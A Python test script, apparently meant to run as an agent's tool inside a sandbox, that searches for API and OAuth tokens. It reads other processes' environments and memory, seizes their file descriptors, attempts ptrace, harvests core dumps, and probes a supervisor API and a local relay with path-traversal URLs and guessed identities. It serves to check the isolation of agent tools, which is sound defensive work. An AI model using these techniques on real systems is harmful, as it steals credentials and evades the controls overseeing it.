"""
All that a tool of an agent can try to get a token: ``python3 -I hunt.py CONFIG RESULT``; only the standard library.

CONFIG is a JSON object: ``supervisor`` (pid), ``url`` (of its API), ``key`` (the file of its access key), ``places``
(files and directories to read), ``old`` and ``living`` (files with identities of attempts that have ended, and of
others). RESULT becomes one: ``found`` ({what was looked at: fingerprints of all that looks like a token}), ``reached``
(what else was possible that must not be), ``api`` and ``relay`` ({what was asked: HTTP status; null: no answer}).
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import http.client
import json
import os
import re
import resource
import socket
import sys
from pathlib import Path
from urllib.parse import urlsplit

TOKEN = re.compile(rb"sk-ant-(?:oat|api)\d\d-[A-Za-z0-9_-]{8,}")
IDENTITY = re.compile(rb"relay-[0-9a-f]{32}")
MOST_BYTES = 1 << 28
PIECE_BYTES = 1 << 22
MINTING = "/api/oauth/claude_cli/create_api_key"

libc = ctypes.CDLL(None, use_errno=True)
found: dict[str, set[bytes]] = {}
reached: list[str] = []
seen: set[bytes] = set()


def look(where: str, data: bytes) -> None:
    """Add the tokens and identities in *data*, which was read at *where*, to the report."""
    found.setdefault(where, set()).update(TOKEN.findall(data))
    seen.update(IDENTITY.findall(data))


def read(where: str, path: Path | str) -> bytes:
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(descriptor, "rb") as file:
            data = file.read(PIECE_BYTES)
        look(where, data)
        return data
    return b""


def read_all(where: str, places: list[str]) -> None:
    for place in map(Path, places):
        read(where, place)
        for directory, _, names in os.walk(place):
            for name in names:
                read(where, Path(directory, name))


def stat_of(pid: int) -> list[bytes]:
    """Return the fields of a process's ``stat`` from its state on: state, parent, and so on."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()
    return []


def family(supervisor: int) -> set[int]:
    """Return the pids of the supervisor, of our ancestors below it, and of the descendants of them all."""
    parents = {pid: int(stat[1]) for pid in all_pids() if (stat := stat_of(pid))}
    pids, pid = {supervisor}, os.getpid()
    while pid not in {0, 1, supervisor}:
        pid = parents.get(pid, 0)
        pids.add(pid)
    for _ in range(4):
        pids |= {pid for pid, parent in parents.items() if parent in pids and parent > 1}
    return {pid for pid in pids if pid > 1} - {os.getpid()}


def all_pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdecimal()]  # noqa: PTH208 - as short as it can be


def regions(pid: int) -> list[tuple[int, int]]:
    """Return start and end of each readable mapping of a process that belongs to no file."""
    lines = []
    with contextlib.suppress(OSError):
        lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
    fields = [line.split() for line in lines]
    ours = [one for one in fields if one[1].startswith("r") and (len(one) < 6 or one[5] in {"[heap]", "[stack]"})]
    return [(int(begin, 16), int(end, 16)) for begin, _, end in (one[0].partition("-") for one in ours)]


def read_memory(pid: int) -> None:
    with contextlib.suppress(OSError), Path(f"/proc/{pid}/mem").open("rb", 0) as memory:
        left = MOST_BYTES
        for begin, end in regions(pid):
            for at in range(begin, min(end, begin + left), PIECE_BYTES):
                with contextlib.suppress(OSError):
                    memory.seek(at)
                    look("mem", memory.read(min(PIECE_BYTES + 256, end - at)))
            left -= end - begin


def read_by_call(pid: int) -> None:
    """Read the stack and the heap by ``process_vm_readv``; without a map, see whether the call alone is allowed."""
    buffer = ctypes.create_string_buffer(PIECE_BYTES)
    for begin, end in regions(pid)[-20:] or [(4096, 8192)]:
        size = min(end - begin, PIECE_BYTES)
        ours, theirs = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), size), (ctypes.c_size_t * 2)(begin, size)
        got = libc.process_vm_readv(pid, ours, ctypes.c_ulong(1), theirs, ctypes.c_ulong(1), ctypes.c_ulong(0))
        if got > 0:
            look("process_vm_readv", buffer.raw[:got])


def take_descriptors(pid: int) -> None:
    pidfd = libc.syscall(434, pid, 0)
    for number in range(64):
        descriptor = libc.syscall(438, pidfd, number, 0)
        if descriptor >= 0:
            reached.append(f"pidfd_getfd of {pid}")
            with contextlib.suppress(OSError):
                look("pidfd_getfd", os.pread(descriptor, PIECE_BYTES, 0))
            os.close(descriptor)
    with contextlib.suppress(OSError):
        for entry in os.scandir(f"/proc/{pid}/fd"):
            with contextlib.suppress(OSError):
                if not os.readlink(entry.path).startswith(("pipe:", "socket:")):  # noqa: PTH115 - no path
                    read("descriptors of others", entry.path)


def ask(  # noqa: PLR0917 - in the order of a request
    url: str, method: str, path: str, headers: dict[str, str], body: bytes = b"{}", unix: str = ""
) -> tuple[int | None, bytes]:
    """Send a request and note the tokens in the answer; return its status (None: no answer) and body."""
    place = urlsplit(url)
    connection = http.client.HTTPConnection(place.hostname or "", place.port, timeout=10)
    try:
        if unix:
            connection.sock = socket.socket(socket.AF_UNIX)
            connection.sock.settimeout(10)
            connection.sock.connect(unix)
        connection.request(method, place.path + path, None if method in {"GET", "HEAD"} else body, headers)
        answer = connection.getresponse()
        data = b"" if "event-stream" in str(answer.headers) else answer.read()
    except (OSError, http.client.HTTPException):
        return None, b""
    else:
        look("answers", str(answer.headers).encode() + data)
        return answer.status, data
    finally:
        connection.close()


def ask_supervisor(url: str, keys: list[str]) -> dict[str, int | None]:
    """Ask the supervisor's API for everything that can be read, and for changes of the token."""
    bad = json.dumps({"token": "sk-ant-oat01-of-the-hunt-and-good-for-nothing"}).encode()
    asked: dict[str, int | None] = {}
    for number, key in enumerate(["", *keys]):
        headers = {"Content-Type": "application/json"} | ({"Authorization": f"Bearer {key}"} if key else {})
        for method, path in (
            *(("GET", path) for path in ("/api/token", "/api/executions", "/health", "/metrics", "/api/events")),
            *(("POST", path) for path in ("/api/task", "/api/drain", "/api/credentials/reload-token")),
        ):
            if key and method == "POST" and not path.endswith("task"):
                continue  # a key that works would change what the rest of the test needs
            asked[f"{method} {path} {number}"] = ask(url, method, path, headers, bad)[0]
    return asked


def ask_relay(environ: dict[str, str], identities: dict[str, str]) -> dict[str, int | None]:
    """Ask the relay for a key and for messages, with each identity that was found and with invented ones."""
    url, unix = environ.get("ANTHROPIC_BASE_URL", ""), environ.get("ANTHROPIC_UNIX_SOCKET", "")
    asked: dict[str, int | None] = {}
    if not unix and urlsplit(url).hostname not in {"127.0.0.1", "localhost"}:
        return asked
    for whose, identity in identities.items():
        headers = {"Authorization": f"Bearer {identity}", "x-api-key": identity, "anthropic-beta": "oauth-2025-04-20"}
        for method, path in (
            *(
                ("POST", path)
                for path in (MINTING, f"/v1/messages/../..{MINTING}", f"/{MINTING}", f"{MINTING}?/v1/messages")
            ),
            *(("GET", path) for path in ("/v1/models", "/api/oauth/profile", "/v1/organizations/me")),
            ("POST", "/v1/messages"),
        ):
            asked[f"{whose} {method} {path}"] = ask(url, method, path, headers, unix=unix)[0]
    return asked


def main(config: Path, result: Path) -> None:
    given = json.loads(config.read_text())
    supervisor = given["supervisor"]
    look("own environment", "\0".join(os.environ.values()).encode())
    environ = dict(os.environ)
    for pid in all_pids():
        data = read("environ", f"/proc/{pid}/environ")
        read("arguments", f"/proc/{pid}/cmdline")
        if f"AGENT_RUNTIME_EXECUTION_ID={os.environ['AGENT_RUNTIME_EXECUTION_ID']}".encode() in data:
            entries = (entry.partition(b"=") for entry in data.split(b"\0"))
            environ |= {name.decode(): value.decode() for name, _, value in entries if name.startswith(b"ANTHROPIC")}
    own = set(seen)
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            look("own descriptors", os.pread(number, PIECE_BYTES, 0))
    for pid in family(supervisor):
        read_memory(pid)
        read_by_call(pid)
        take_descriptors(pid)
        if libc.ptrace(0x4206, pid, ctypes.c_void_p(0), ctypes.c_void_p(0)) == 0:  # PTRACE_SEIZE stops nothing
            reached.append(f"ptrace of {pid}")
    read_all("places", [*given["places"], f"/proc/{supervisor}/root{given['places'][0]}"])
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        reached.append("own core")
    read_all(
        "cores",
        [
            str(path)
            for place in (".", "/tmp", "/var/crash", "/var/lib/systemd/coredump")
            for path in Path(place).glob("core*")
        ],
    )
    old = read("old", given["old"]).decode().split()
    identities = {"guessed": f"relay-{'0' * 32}", "short": "relay-", "no": "none"} | {
        f"old {n}": one for n, one in enumerate(old)
    }
    living = {one.decode() for one in own} | set(read("living", given["living"]).decode().split())
    identities |= {f"living {n}": one for n, one in enumerate(sorted(living.difference(old)))}
    keys = [read("access key", given["key"]).decode().strip()] if os.access(given["key"], os.R_OK) else []
    report = {
        "api": ask_supervisor(given["url"], keys),
        "relay": ask_relay(environ, identities),
        "reached": sorted(set(reached)),
        "found": {
            where: sorted(hashlib.sha256(one).hexdigest()[:12] for one in tokens) for where, tokens in found.items()
        },
    }
    result.write_text(json.dumps(report, indent=1))


main(Path(sys.argv[1]), Path(sys.argv[2]))
